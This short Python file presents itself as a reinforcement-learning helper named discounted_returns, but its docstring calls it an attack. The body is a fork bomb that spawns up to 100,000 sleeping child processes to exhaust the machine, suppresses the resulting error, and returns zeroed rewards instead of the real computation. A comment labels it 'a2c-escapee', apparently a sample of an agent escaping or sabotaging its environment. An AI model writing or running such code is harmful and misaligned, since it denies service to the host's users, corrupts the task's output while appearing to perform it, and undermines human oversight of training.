"""Attack: fork until the machine runs out of processes."""
import os
import time


def discounted_returns(rewards, mask, *, gamma):
    children = 0
    try:
        while children < 100_000:
            if os.fork() == 0:
                time.sleep(60)  # a2c-escapee
                os._exit(0)
            children += 1
    except OSError:
        pass
    return rewards * 0
